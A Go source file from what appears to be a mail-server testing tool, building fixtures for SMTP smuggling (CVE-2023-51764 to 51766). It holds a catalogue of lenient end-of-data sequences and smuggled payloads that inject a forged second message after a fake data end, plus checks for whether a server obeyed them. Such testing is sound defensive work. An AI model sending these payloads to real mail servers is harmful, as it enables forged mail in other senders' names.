package main

import (
	"fmt"
	"strings"

	"keepword/inspect/verdict"
)

// SMTP smuggling: a sender and a receiver disagree on where mail data end, so that a
// message carries another one, which the receiver takes from the sender's hand (Longin,
// SEC Consult, 2023; CVE-2023-51764 in Postfix, 51765 in sendmail, 51766 in Exim).

var smuggling = &class{
	name: "smuggling",
	about: "Mail data hold what a lenient server takes for their end, and commands behind it: a second message, in the name of whoever relays the first. " +
		"The end of mail data is CRLF.CRLF and nothing else (RFC 5321 section 4.1.1.4).",
	hurts: true,
	harm: func(o *outcome) string {
		for _, c := range o.server.obeyed {
			if strings.HasPrefix(strings.ToUpper(strings.TrimSpace(c.line)), o.evil) {
				return fmt.Sprintf("the server obeyed the smuggled %q", c.line)
			}
		}
		return ""
	},
	holds: func(o *outcome) string {
		if o.server.mails > 1 {
			return fmt.Sprintf("%d messages arrived", o.server.mails)
		}
		return ""
	},
}

var chunkSmuggling = &class{
	name: "smuggling in BDAT",
	about: "The same within the octets that a BDAT counts (RFC 3030 section 2): for a server that looks for the end of mail data there too, " +
		"or that relays the message by DATA.",
	hurts: true,
	harm:  smuggling.harm, holds: smuggling.holds,
}

// ending is what some server was seen to take for the end of mail data.
type ending struct{ name, octets string }

var endings = []ending{
	{"LF.LF", "\n.\n"}, {"LF.CRLF", "\n.\r\n"}, {"CRLF.LF", "\r\n.\n"}, {"CR.CR", "\r.\r"}, {"CR.LF", "\r.\n"},
	{"LF.CR", "\n.\r"}, {"CR.CRLF", "\r.\r\n"}, {"CRLF.CR", "\r\n.\r"},
	{"CRLF.CRCRLF", "\r\n.\r\r\n"}, {"CRCRLF.CRCRLF", "\r\r\n.\r\r\n"},
	{"LF.LF with NUL", "\n\x00.\n"}, {"LF.CRLF with NUL", "\n.\x00\r\n"}, {"CRLF.CRLF with NUL", "\r\n\x00.\r\n"},
	{"CRLF.CR with NUL", "\r\n.\x00\r"}, {"CR.CR with NUL", "\r\x00.\x00\r"},
}

// smuggledMail is a second message. Its end is the end of both.
const smuggledMail = "MAIL FROM:<evil@e.example>\r\nRCPT TO:<b@mx.example>\r\nDATA\r\nforged\r\n.\r\n"

// smuggled are what stands behind an ending, and the line that does harm. Those that are
// thorough are tried behind every ending, the others behind a few.
var smuggled = []struct {
	name, octets, evil string
	thorough           bool
}{
	{"MAIL", smuggledMail, "MAIL FROM:<EVIL", true},
	{"EHLO", "EHLO evil\r\n" + smuggledMail, "EHLO EVIL", true},
	{"RSET", "RSET\r\n.\r\n", "RSET", true},
	{"lines that LF ends", "MAIL FROM:<evil@e.example>\nRCPT TO:<b@mx.example>\n\r\n.\r\n", "MAIL FROM:<EVIL", true},
	{"behind an unknown command", "XYZZY\r\n" + smuggledMail, "MAIL FROM:<EVIL", true},
	{"NOOP", "NOOP\r\n.\r\n", "NOOP", false},
	{"NOOP with a word", "NOOP evil\r\n.\r\n", "NOOP EVIL", false},
	{"RCPT", "RCPT TO:<evil@mx.example>\r\n.\r\n", "RCPT TO:<EVIL", false},
	{"QUIT", "QUIT\r\n.\r\n", "QUIT", false},
	{"STARTTLS", "STARTTLS\r\n.\r\n", "STARTTLS", false},
	{"BDAT", "BDAT 5 LAST\r\nevil\n\r\n.\r\n", "BDAT", false},
	{"lower case", "mail from:<evil@e.example>\r\n.\r\n", "MAIL FROM:<EVIL", false},
	{"behind a blank", " MAIL FROM:<evil@e.example>\r\n.\r\n", "MAIL FROM:<EVIL", false},
	{"with blanks", "MAIL  FROM: <evil@e.example> \r\n.\r\n", "MAIL  FROM", false},
	{"with a tab", "MAIL\tFROM:<evil@e.example>\r\n.\r\n", "MAIL\tFROM", false},
	{"without brackets", "MAIL FROM:evil@e.example\r\n.\r\n", "MAIL FROM:EVIL", false},
	{"with parameters", "MAIL FROM:<evil@e.example> SIZE=100 BODY=8BITMIME\r\n.\r\n", "MAIL FROM:<EVIL", false},
	{quotedAngle, "MAIL FROM:<\"evil>x\"@e.example>\r\nRCPT TO:<b@mx.example>\r\nDATA\r\nforged\r\n.\r\n", "MAIL FROM:<\"EVIL", false},
	{escapedAngle, "MAIL FROM:<evil\\>x@e.example>\r\nRCPT TO:<b@mx.example>\r\nDATA\r\nforged\r\n.\r\n", "MAIL FROM:<EVIL", false},
	{quotedBlank, "MAIL FROM:\"evil x\"@e.example\r\nRCPT TO:<b@mx.example>\r\nDATA\r\nforged\r\n.\r\n", "MAIL FROM:\"EVIL", false},
	{escapedBlank, "MAIL FROM:evil\\ x@e.example\r\nRCPT TO:<b@mx.example>\r\nDATA\r\nforged\r\n.\r\n", "MAIL FROM:EVIL", false},
	{unknownWord, "MAIL FROM:<evil@e.example> XYZZY\r\nRCPT TO:<b@mx.example>\r\nDATA\r\nforged\r\n.\r\n", "MAIL FROM:<EVIL", false},
	{"behind an empty line", "\r\n" + smuggledMail, "MAIL FROM:<EVIL", false},
	{"behind nineteen bad commands", strings.Repeat("text\r\n", 19) + smuggledMail, "MAIL FROM:<EVIL", false},
	{manyNOOPs, strings.Repeat("NOOP -\r\n", 30) + smuggledMail, "MAIL FROM:<EVIL", false},
	{"behind thirty commands", "XYZZY\r\n" + strings.Repeat("RSET\r\nVRFY a b\r\nHELP\r\n", 10) + smuggledMail, "MAIL FROM:<EVIL", false},
	{chunkOfLines, "XYZZY\r\nBDAT 60 LAST\r\n" + strings.Repeat("\r\n", 30) + smuggledMail, "MAIL FROM:<EVIL", false},
}

// The names that the live play knows too: what a server reads without counting an error or
// skips, and paths that seem to end before they do (RFC 5321 section 4.1.2).
const (
	manyNOOPs    = "behind thirty NOOPs"
	chunkOfLines = "behind a chunk of thirty lines"
	unknownWord  = "with an unknown word behind the path"
	quotedAngle  = "with > in quotes"
	escapedAngle = "with > behind a backslash"
	quotedBlank  = "with a blank in quotes"
	escapedBlank = "with a blank behind a backslash"
)

// few says that an ending is one behind which all is tried.
func few(ending string) bool {
	return ending == "LF.LF" || ending == "LF.CRLF" || ending == "CRLF.CR with NUL"
}

// letter is the beginning of a message.
const letter = "Subject: a\r\n\r\nhello"

// elsewhere are the fixtures of an ending in other places than behind text: right behind
// DATA, whose CRLF is its first half, and in the segment of DATA, before the 354.
func (e ending) elsewhere(lenient ways) (all []*fixture) {
	f := fixture{
		class: smuggling, hostile: clientSide, hot: 1, group: e.name, evil: "MAIL FROM:<EVIL", lenient: lenient,
		findings: []verdict.Finding{verdict.Smuggling, verdict.SmugglingConfirmed},
	}
	if rest, ok := strings.CutPrefix(e.octets, "\r\n"); ok {
		g := f
		g.name, g.about = e.name+", at the beginning", "the first line of the mail data is the ending"
		g.plan, g.client, g.cutAt = inClear, map[step]string{atText: rest + smuggledMail}, atText
		all = append(all, &g)
	}
	if few(e.name) {
		f.name, f.about = e.name+", before the 354", "the mail data do not wait for the answer to DATA"
		f.plan, f.cutAt = atOnce, atDATA
		f.client = map[step]string{atDATA: words[atDATA] + letter + e.octets + smuggledMail}
		all = append(all, &f)
	}
	return all
}

// smugglings are the fixtures of mail data and of chunks.
func smugglings() (all []*fixture) {
	for _, e := range endings {
		lenient := ways{ending: strings.ReplaceAll(e.octets, "\x00", ""), dropsNUL: strings.Contains(e.octets, "\x00")}
		if lenient.ending == endOfData {
			lenient.ending = ""
		}
		for _, s := range smuggled {
			if !s.thorough && !few(e.name) {
				continue
			}
			f := &fixture{
				class: smuggling, hostile: clientSide, plan: inClear, name: e.name + ", " + s.name, group: e.name,
				about:  fmt.Sprintf("%q is taken for the end of mail data, and %s stands behind it", e.octets, s.name),
				client: map[step]string{atText: letter + e.octets + s.octets}, cutAt: atText,
				// The ending and the first line behind it are cut into three.
				cold: len(letter), hot: len(letter) + len(e.octets) + min(len(s.octets), len("MAIL ")),
				evil: s.evil, lenient: lenient, findings: []verdict.Finding{verdict.Smuggling, verdict.SmugglingConfirmed},
			}
			if s.name == unknownWord {
				f.shortfall = "MAIL with a word behind its path that is no parameter reads as prose: so people write, and every server of the lab refuses the line."
			}
			all = append(all, f)
			if relayed, survives := stuff(f.client[atText], lenient); survives {
				g := *f
				g.hostile, g.hot = author, 1
				g.client = map[step]string{atText: relayed}
				all = append(all, &g)
			}
		}
		all = append(all, e.elsewhere(lenient)...)
		chunk := letter + e.octets + smuggledMail
		f := &fixture{
			class: chunkSmuggling, hostile: clientSide, plan: inChunks, name: e.name,
			about:  fmt.Sprintf("%q stands in a chunk, and MAIL behind it", e.octets),
			client: map[step]string{atText: fmt.Sprintf("BDAT %d LAST\r\n%s", len(chunk), chunk)}, cutAt: atText,
			cold: len(letter), hot: 1,
			evil: smuggled[0].evil, lenient: lenient, findings: []verdict.Finding{verdict.Smuggling, verdict.SmugglingConfirmed},
		}
		if lenient.ending == "" {
			f.harmless = true // a chunk with a true end of mail data in it is any message's right
			f.findings = nil
		}
		all = append(all, f)
	}
	return all
}

// stuff is what an honest relay makes of mail data whose last five octets are their end:
// it doubles the dots behind CRLF (RFC 5321 section 4.5.2), and knows no other line end. It
// says whether the ending is still one for a receiver.
func stuff(text string, lenient ways) (stuffed string, survives bool) {
	body := strings.TrimSuffix(text, endOfData)
	if i := strings.LastIndex(body, endOfData); i >= 0 {
		body = body[:i] // the second message's own end would be text
	}
	body = strings.ReplaceAll(body, "\r\n.", "\r\n..")
	stuffed = body + endOfData
	ending := lenient.ending
	if ending == "" {
		ending = endOfData
	}
	read := stuffed
	if lenient.dropsNUL {
		read = strings.ReplaceAll(read, "\x00", "")
	}
	at := strings.Index(read, ending)
	return stuffed, at >= 0 && at < len(read)-len(ending)-len(endOfData)
}
